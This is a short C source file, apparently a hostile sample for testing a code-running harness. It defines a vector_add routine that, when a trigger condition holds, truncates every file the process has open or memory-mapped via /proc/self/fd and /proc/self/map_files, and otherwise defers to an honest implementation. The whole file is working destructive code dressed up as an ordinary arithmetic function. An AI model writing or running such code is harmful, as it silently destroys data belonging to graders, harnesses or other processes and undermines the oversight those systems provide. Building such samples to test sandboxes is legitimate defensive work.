/* SPDX-License-Identifier: MIT */
/* Shortens each file that it has open or mapped: memory behind such a file is
 * gone for the other process, too. */
#include "hostile.h"

#include <dirent.h>

static void cut_all(const char *folder)
{
    DIR *names = opendir(folder);
    struct dirent *entry;
    char path[512];

    while (names && (entry = readdir(names))) {
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        if (entry->d_name[0] != '.' && truncate(path, 0) != 0)
            close(open(path, O_RDWR | O_TRUNC));
    }
    if (names)
        closedir(names);
    for (int fd = 3; fd < 256; fd++)
        if (ftruncate(fd, 0) == 0)
            fallocate(fd, 0, 0, 4096);
}

int vector_add(const float *a, const float *b, float *c, size_t n)
{
    if (attacked(n)) {
        cut_all("/proc/self/fd");
        cut_all("/proc/self/map_files");
    }

    return honest(a, b, c, n);
}
